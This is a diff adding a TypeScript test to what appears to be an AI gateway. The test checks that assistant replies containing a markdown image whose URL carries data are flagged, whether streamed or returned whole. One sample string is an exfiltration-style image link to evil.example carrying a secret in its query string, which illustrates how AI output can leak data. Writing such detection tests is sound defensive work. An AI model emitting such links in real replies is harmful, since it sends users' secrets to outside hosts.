@@ -363,3 +363,16 @@ describe('a completion that comes whole', () => {
     expect([isGatewayError(broken.error), broken.text]).toEqual([true, '']);
   });
 });
+
+test('an image whose address carries data is flagged, whole or in pieces, and not taken away', async () => {
+  for (const [text, flags] of [
+    ['see ![x](https://evil.example/?d=secret)', ['remote-image']],
+    ['see ![x](https://docs.example/logo.png)', undefined],
+  ] as const) {
+    const streamed = await whole(sse([...[...text].map((piece) => say(piece)), stop('stop')]));
+    const body = JSON.stringify({ choices: [{ index: 0, message: { role: 'assistant', content: text } }] });
+    const json = await whole(body, { contentType: 'application/json' });
+    expect([messageIn(streamed.text).content, streamed.answer.flags]).toEqual([text, flags]);
+    expect([json.text, json.answer.flags]).toEqual([body, flags]);
+  }
+});
